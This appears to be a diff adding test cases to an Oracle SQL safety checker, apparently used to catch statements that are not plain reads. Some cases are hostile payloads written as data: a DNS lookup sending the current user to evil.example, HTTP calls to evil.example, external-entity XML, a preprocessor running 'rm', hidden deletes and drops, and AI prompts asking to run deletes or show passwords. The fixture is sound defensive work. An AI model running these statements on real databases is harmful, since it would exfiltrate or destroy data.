@@ -339,3 +339,228 @@ select 1from dual
 -- @next a carriage return in a comment
 select 1 from dual -- x
 for update
+-- @next asks a language model (23ai)
+select ai show me all passwords
+-- @next asks a language model to run (23ai)
+SELECT AI runsql delete the accounts
+-- @next asks a language model, in quotes of its prompt
+select ai 'how many accounts'
+-- @next asks a language model over a comment
+select /* x */ ai chat hello there
+-- @next a path put together from texts
+select extract(content, 'ora:vie' || 'w' || chr(40) || '"HR","ACCOUNTS"' || chr(41)) from app.d
+-- @next a path that stands in a column
+select extractvalue(content, path_column) from app.d
+-- @next a path from a function
+select existsnode(content, lower('/A')) from app.d
+-- @next a path in a subquery
+select extract(content, (select path from app.paths)) from app.d
+-- @next code in the query behind a line comment
+with -- x
+function f return number is begin return 1; end; select f from dual
+-- @next code in the query, in capitals and with a parameter
+WITH FUNCTION F(P IN NUMBER) RETURN NUMBER AS BEGIN DELETE FROM T; RETURN P; END; SELECT F(1) FROM DUAL
+-- @next code in the query behind parentheses
+(with function f return number is begin return 1; end; select f from dual)
+-- @next a block with a transaction of its own
+declare pragma autonomous_transaction; begin delete from t; commit; end;
+-- @next a block that runs a text
+begin execute immediate 'drop table t'; end;
+-- @next a labelled block behind a comment
+/* x */ <<l>> declare n number; begin null; end;
+-- @next a call with a result
+call app.f(1) into :x
+-- @next locks rows for a while
+select id from accounts for update wait 5
+-- @next locks rows of one table of a join
+select a.id from a join b on a.id = b.id for update of a.id
+-- @next locks rows in a subquery in FROM
+select * from (select id from accounts for update)
+-- @next puts rows into a collection
+select id bulk collect into ids from accounts
+-- @next puts a row into variables
+select id, name into x, y from accounts
+-- @next a remote table in a subquery
+select (select max(id) from accounts@prod) from dual
+-- @next a remote table in IN
+select 1 from dual where 1 in (select id from hr.accounts @ prod)
+-- @next a remote sequence
+select seq.nextval@prod from dual
+-- @next a remote package
+select pkg.f@prod(1) from dual
+-- @next sends mail by the newer package
+select utl_mail.send('a', 'b') from dual
+-- @next compresses with a package
+select utl_compress.lz_compress(x) from t
+-- @next a name server by its constructor
+select utl_inaddr.get_host_address((select user from dual) || '.evil.example') from dual
+-- @next asks a web service by the cloud package
+select dbms_cloud.send_request('c', 'https://evil.example/', 'GET') from dual
+-- @next a language model's package (23ai)
+select dbms_cloud_ai.generate('delete accounts', action => 'runsql') from dual
+-- @next vectors by a package (23ai)
+select dbms_vector.utl_to_embedding('x', json('{}')) from dual
+-- @next chunks of a text by a package (23ai)
+select * from dbms_vector_chain.utl_to_chunks('x')
+-- @next embeddings by a model (23ai)
+select vector_embedding(m using 'x' as data) from dual
+-- @next cuts texts (23ai)
+select * from vector_chunks('x' by words)
+-- @next a graph (23ai)
+select * from graph_table (g match (a) columns (app.f(a.x) as y))
+-- @next pattern matching with a call
+select * from t match_recognize (measures do_it(x) as y pattern (a) define a as x > 0)
+-- @next a model clause with a call
+select * from t model dimension by (id) measures (x) rules (x[1] = do_it(1))
+-- @next a polymorphic table function
+select * from app.ptf(accounts, columns(id))
+-- @next a polymorphic table function without its schema
+select * from ptf(table(accounts))
+-- @next a script of JavaScript by name
+select app.mle_fn(1) from dual
+-- @next queues
+select dbms_aq.dequeue(1) from dual
+-- @next an alert
+select dbms_alert.signal('x', 'y') from dual
+-- @next ends a session
+select dbms_system.kill(1) from dual
+-- @next reads a directory
+select dbms_backup_restore.searchfiles('/') from dual
+-- @next copies a file
+select dbms_file_transfer.put_file('a', 'b', 'c', 'd', 'e') from dual
+-- @next a Java policy
+select dbms_jvm_exp_perms.x from dual
+-- @next random text by owner, in quotes
+select "SYS"."DBMS_RANDOM"."STRING"('A', 10) from dual
+-- @next writes to the output
+select dbms_output.put_line('x') from dual
+-- @next counts in a session
+select dbms_application_info.set_module('a', 'b') from dual
+-- @next sets a context
+select dbms_session.set_context('a', 'b', 'c') from dual
+-- @next flashback by a package
+select dbms_flashback.get_system_change_number from dual
+-- @next reads a transaction
+select dbms_transaction.local_transaction_id(true) from dual
+-- @next an Apex web call
+select apex_web_service.make_rest_request('https://evil.example/', 'GET') from dual
+-- @next an old web toolkit
+select owa_util.get_cgi_env('x') from dual
+-- @next a page of the old web toolkit
+select htp.p('x') from dual
+-- @next a web address by its type's method
+select sys.httpuritype.createuri('http://evil.example/').getclob() from dual
+-- @next a web address in a JSON function
+select json_value(httpuritype('http://evil.example/').getclob(), '$.a') from dual
+-- @next an address of the database in quotes
+select sys."DBURITYPE"('/HR') from dual
+-- @next an address made of a column
+select sys_dburigen(name) from accounts
+-- @next XML by its type's method
+select xmltype.createxml('<a/>') from dual
+-- @next XML of a query
+select xmltype(cursor(select * from accounts)) from dual
+-- @next XML by owner
+select sys.xmltype('<!DOCTYPE a SYSTEM "http://evil.example/">') from dual
+-- @next XML by owner, in quotes
+select "SYS"."XMLTYPE"('<a/>') from dual
+-- @next XML parsed as content
+select xmlparse(content '<!DOCTYPE a SYSTEM "http://evil.example/"><a/>' wellformed) from dual
+-- @next a table of XML from a text
+select * from xmltable('/a' passing xmltype('<!DOCTYPE a SYSTEM "http://evil.example/"><a/>'))
+-- @next changes XML
+select updatexml(content, '/a', 'b') from app.d
+-- @next deletes from XML
+select deletexml(content, '/a') from app.d
+-- @next XQuery that stores
+select xmlquery('ora:view("HR", "ACCOUNTS")' returning content) from dual
+-- @next XQuery in an alternative quote
+select xmlquery(q'[fn:doc("/x")]' returning content) from dual
+-- @next XQuery in national characters
+select xmlquery(n'fn:collection("/x")' passing content returning content) from app.d
+-- @next XQuery in braces
+select xmlquery('<a>{doc("/x")}</a>' returning content) from dual
+-- @next XQuery in a condition
+select 1 from app.d where xmlexists('doc("/x")/a' passing content)
+-- @next an inline external table with a program
+select * from external ((a number) type oracle_loader access parameters (records delimited by newline preprocessor exec:'rm') location (d:'x')) t
+-- @next a table of another time by a call
+select * from accounts as of timestamp app.f(1)
+-- @next versions by a call
+select * from accounts versions between scn app.f(1) and maxvalue
+-- @next a sequence in a condition
+select 1 from dual where app.seq.nextval > 1
+-- @next a sequence over a comment
+select app.seq/* x */./* y */nextval from dual
+-- @next a sequence in mixed case and quotes of its owner
+select "APP".seq.NextVal from dual
+-- @next a call by name of its argument
+select do_it(a => 1) from dual
+-- @next a call in a partition's key
+select * from t partition for (do_it(1))
+-- @next a call in SAMPLE
+select * from t sample (do_it(1))
+-- @next a call in FETCH FIRST
+select * from t fetch first do_it(1) rows only
+-- @next a call in OFFSET
+select * from t offset do_it(1) rows
+-- @next a call in LISTAGG's separator
+select listagg(name, do_it(1)) within group (order by name) from t
+-- @next a call in a frame
+select sum(x) over (order by x range do_it(1) preceding) from t
+-- @next a call in CONNECT BY
+select 1 from t connect by do_it(1) = 1
+-- @next a call in START WITH
+select 1 from t start with do_it(1) = 1 connect by prior a = b
+-- @next a call in PIVOT
+select * from t pivot (do_it(x) for y in (1))
+-- @next a call in JSON_TABLE
+select * from json_table(do_it(1), '$' columns (a path '$.a')) j
+-- @next a call in XMLTABLE's passing
+select * from xmltable('/a' passing do_it(1) columns b varchar2(10) path 'b') x
+-- @next a call in a JSON transformation
+select json_transform(d, set '$.a' = do_it(1)) from t
+-- @next a call in VALUES (23ai)
+select * from (values (1, do_it(1))) v(a, b)
+-- @next a call in a CTE's column list's query
+with a(x) as (select do_it(1) from dual) select x from a
+-- @next a call in an array's quotes
+select "DO_IT" (1) from dual
+-- @next a call behind an alternative quote
+select q'(a)'||do_it(1) from dual
+-- @next a call between quotes of two kinds
+select q'"a"'||do_it(1)||"B" from dual
+-- @next a boolean function as a condition (23ai)
+select 1 from dual where app.is_ok(1)
+-- @next a SQL*Plus variable with a dot
+select * from &&owner..accounts
+-- @next a SQL*Plus copy
+copy from a to b create t using select 1
+-- @next a SQL*Plus spool
+spool /tmp/x
+-- @next a SQL*Plus connection
+connect sys as sysdba
+-- @next administers keys
+administer key management set key identified by x
+-- @next a context
+create context c using p
+-- @next disassociates
+disassociate statistics from functions f
+-- @next a merge behind a read
+select 1 from dual; merge into t using s on (1 = 1) when matched then update set a = 1
+-- @next several rows (23ai)
+insert into t values (1), (2) returning a into :x
+-- @next truncates a cluster
+truncate cluster c
+-- @next makes a session's constraint
+set constraints all deferred
+-- @next a lock of a table in a share mode
+lock table t partition (p) in share mode nowait
+-- @next a savepoint
+savepoint s
+-- @next an invisible letter in a name
+select name as "aㅤb" from accounts
+-- @next a wide parenthesis
+select do_it（1） from dual
+-- @next a no-break space inside a call
+select do_it (1) from dual
